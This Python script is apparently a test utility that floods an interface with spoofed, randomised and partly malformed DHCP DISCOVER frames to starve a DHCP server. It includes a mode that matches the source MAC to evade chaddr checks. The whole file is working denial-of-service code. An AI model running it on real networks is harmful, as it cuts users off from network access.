#!/usr/bin/env python3
"""A DHCP starvation flood, as dhcpstarv or Yersinia send it, for tests in a network namespace.

Writes Ethernet frames on a packet socket: broadcast DISCOVERs (0.0.0.0:68 -> 255.255.255.255:67) with a
random chaddr and xid each, and every `mutate`th one damaged (random bytes over the cookie and options).
The frame's Ethernet source is the interface's own MAC (`fixed`), random per frame (`random`), or random and
equal to the chaddr (`matched`: what gets past a chaddr check). RATE frames/s (0: as fast as it can).

usage: dhcp_flood.py IFNAME SECONDS fixed|random|matched [RATE] [MUTATE_EVERY]
prints "sent N" at the end.
"""
import os
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main() -> None:
    ifname, seconds, mode = sys.argv[1], float(sys.argv[2]), sys.argv[3]
    rate = float(sys.argv[4]) if len(sys.argv) > 4 else 0
    mutate_every = int(sys.argv[5]) if len(sys.argv) > 5 else 10
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((ifname, 0))
    own = bytes.fromhex(open(f'/sys/class/net/{ifname}/address').read().strip().replace(':', ''))

    dhcp = bytearray(240 + 4)
    dhcp[0:4] = bytes([1, 1, 6, 0])
    struct.pack_into('!H', dhcp, 10, 0x8000)  # broadcast flag
    dhcp[236:240] = bytes([99, 130, 83, 99])
    dhcp[240:244] = bytes([53, 1, 1, 255])
    udp_len = 8 + len(dhcp)
    ip = bytearray(struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0, b'\0\0\0\0', b'\xff\xff\xff\xff'))
    struct.pack_into('!H', ip, 10, checksum(bytes(ip)))
    udp = struct.pack('!HHHH', 68, 67, udp_len, 0)  # checksum 0: none (RFC 768)
    frame = bytearray(b'\xff' * 6 + own + b'\x08\x00' + bytes(ip) + udp + bytes(dhcp))
    eth_src, dhcp_at = 6, 14 + 20 + 8

    sent = 0
    start = time.monotonic()
    end = start + seconds
    rnd = os.urandom
    while time.monotonic() < end:
        if rate and sent > (time.monotonic() - start) * rate:
            time.sleep(0.005)
            continue
        for _ in range(64):
            frame[dhcp_at + 4:dhcp_at + 8] = rnd(4)  # xid
            mac = b'\x0a' + rnd(5)  # locally administered, never a real NIC's
            frame[dhcp_at + 28:dhcp_at + 34] = mac
            if mode == 'random':
                frame[eth_src:eth_src + 6] = b'\x0e' + rnd(5)
            elif mode == 'matched':
                frame[eth_src:eth_src + 6] = mac
            out = frame
            if mutate_every and sent % mutate_every == 0:
                out = bytearray(frame)
                out[dhcp_at + 236:] = rnd(len(out) - dhcp_at - 236)  # cookie and options: garbage
            try:
                sock.send(out)
                sent += 1
            except (BlockingIOError, OSError):
                pass
    print(f'sent {sent}', flush=True)


if __name__ == '__main__':
    main()
